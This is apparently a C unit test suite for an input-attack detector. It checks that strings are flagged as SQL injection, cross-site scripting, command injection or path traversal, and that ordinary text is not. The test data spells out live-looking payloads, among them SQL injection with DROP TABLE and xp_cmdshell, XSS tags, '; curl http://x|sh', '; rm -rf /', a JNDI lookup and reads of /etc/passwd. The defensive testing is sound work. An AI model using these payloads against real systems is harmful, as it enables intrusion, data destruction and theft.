/* What looks like an attack is found whole, in any case and wherever it stands; what is ordinary is not. */
#include "edge/signal.h"

#include "unit/edge/edge_suites.h"
#include "unit/unit.h"

#define SQL (1u << DM_SIGNAL_SQL)
#define SCRIPT (1u << DM_SIGNAL_SCRIPT)
#define COMMAND (1u << DM_SIGNAL_COMMAND)
#define PATH (1u << DM_SIGNAL_PATH)

static struct dm_signals *signals;

static void assert_signals(const char *text, unsigned expected)
{
    unsigned found = dm_signals_of(signals, dm_str_from(text));
    if (found != expected)
        fprintf(stderr, "\n%s: %#x, not %#x\n", text, found, expected);
    CU_ASSERT_EQUAL(found, expected);
}

static void test_attacks_are_found(void)
{
    static const struct {
        const char *text;
        unsigned signals;
    } cases[] = {
        {"1 UNION SELECT password", SQL},
        {"1/**/uNiOn/**/AlL/**/sElEcT/**/x", SQL},
        {"1 union all select a from b", SQL},
        {"x' OR '1'='1", SQL},
        {"x' or 1=1 --", SQL},
        {"x\" or \"a\"=\"a", SQL},
        {"1 or 1=1", SQL},
        {"a'; DROP  TABLE account", SQL},
        {"admin'--", SQL},
        {"1; select pg_sleep(10)", SQL},
        {"; update account set role = 'Admin'", SQL},
        {"1;waitfor delay '0:0:5'", SQL},
        {"<script>alert(1)</script>", SCRIPT},
        {"<ScRiPt src=//x>", SCRIPT},
        {"\"><img src=x onerror=alert(1)>", SCRIPT},
        {"<svg/onload=alert(1)>", SCRIPT},
        {"javascript:alert(1)", SCRIPT},
        {"$(id)", COMMAND},
        {"x; cat /home/x", COMMAND},
        {"x|cat /home/x", COMMAND},
        {"a && whoami", COMMAND},
        {"; curl http://x|sh", COMMAND},
        {"${jndi:ldap://x/a}", COMMAND},
        {"() { :;}; echo x", COMMAND},
        {"; rm -rf /", COMMAND},
        {"../../etc/x", PATH},
        {"..%2f..%2fx", PATH},
        {"%2E%2E/x", PATH},
        {"..\\..\\x", PATH},
        {"/.git/config", PATH},
        {"; cat /etc/passwd", COMMAND | PATH},
        {"'; exec xp_cmdshell('cmd.exe')--", SQL | COMMAND},
    };
    signals = dm_signals_new();
    CU_ASSERT_PTR_NOT_NULL_FATAL(signals);
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
        assert_signals(cases[i].text, cases[i].signals);
    dm_signals_free(signals);
}

static void test_what_is_ordinary_is_not(void)
{
    static const char *const texts[] = {
        "",
        "Ada O'Neill-Smith",
        "person+tag@example.org",
        "Europe/Berlin",
        "018f0000-0000-7000-8000-000000000000",
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        "curl/7.88.1",
        "/api/v1/personality/018f0000-0000-7000-8000-000000000000/traits",
        "/.well-known/jwks.json",
        "We elect a new union next week, from our own.",
        "Drop me a line; the tables are set.",
        "A script for 2 < 3 && 4 > 1; on error = stop",
        "Rock 'n' roll... or not?",
        "wait ... what/ever",
    };
    signals = dm_signals_new();
    CU_ASSERT_PTR_NOT_NULL_FATAL(signals);
    for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++)
        assert_signals(texts[i], 0);
    dm_signals_free(signals);
}

static void test_words_must_come_in_order_and_close_together(void)
{
    char text[400];
    signals = dm_signals_new();
    CU_ASSERT_PTR_NOT_NULL_FATAL(signals);
    assert_signals("select the union", 0);
    snprintf(text, sizeof(text), "union%*sselect", 40, "");
    assert_signals(text, SQL);
    snprintf(text, sizeof(text), "union%*sselect", 41, "");
    assert_signals(text, 0);
    /* A first word too far away does not hide a nearer one. */
    snprintf(text, sizeof(text), "union%*sunion select", 300, "");
    assert_signals(text, SQL);
    assert_signals("unionselect", SQL);
    assert_signals("uniounion selselect", SQL);
    dm_signals_free(signals);
}

static void test_every_byte_may_be_in_a_text(void)
{
    char all[512];
    for (size_t i = 0; i < sizeof(all); i++)
        all[i] = (char)i;
    signals = dm_signals_new();
    CU_ASSERT_PTR_NOT_NULL_FATAL(signals);
    CU_ASSERT_EQUAL(dm_signals_of(signals, (struct dm_str){all, sizeof(all)}), 0);
    CU_ASSERT_EQUAL(dm_signals_of(signals, (struct dm_str){NULL, 0}), 0);
    CU_ASSERT_EQUAL(dm_signals_of(signals, DM_STR("\0../")), PATH);
    CU_ASSERT_EQUAL(dm_signals_of(signals, DM_STR("\u00e9../\u00e9")), PATH);
    dm_signals_free(signals);
}

static void test_json_that_hides_is_suspect(void)
{
    signals = dm_signals_new();
    CU_ASSERT_PTR_NOT_NULL_FATAL(signals);
    CU_ASSERT_TRUE(dm_signals_suspect(signals, DM_STR("{\"a\":\"\\u003cscript>\"}")));
    CU_ASSERT_TRUE(dm_signals_suspect(signals, DM_STR("{\"a\":\"..\\/\"}")));
    CU_ASSERT_TRUE(dm_signals_suspect(signals, DM_STR("{\"a\":\"<script\"}")));
    CU_ASSERT_FALSE(
        dm_signals_suspect(signals, DM_STR("{\"a\":\"Gr\\u00fc\\u00dfe,\\n\\\"Ada\\\"\"}")));
    dm_signals_free(signals);
}

CU_TestInfo *dm_signal_suite(void)
{
    static CU_TestInfo tests[] = {
        {"attacks are found", test_attacks_are_found},
        {"what is ordinary is not", test_what_is_ordinary_is_not},
        {"words must come in order and close together",
         test_words_must_come_in_order_and_close_together},
        {"every byte may be in a text", test_every_byte_may_be_in_a_text},
        {"JSON that hides is suspect", test_json_that_hides_is_suspect},
        CU_TEST_INFO_NULL,
    };
    return tests;
}
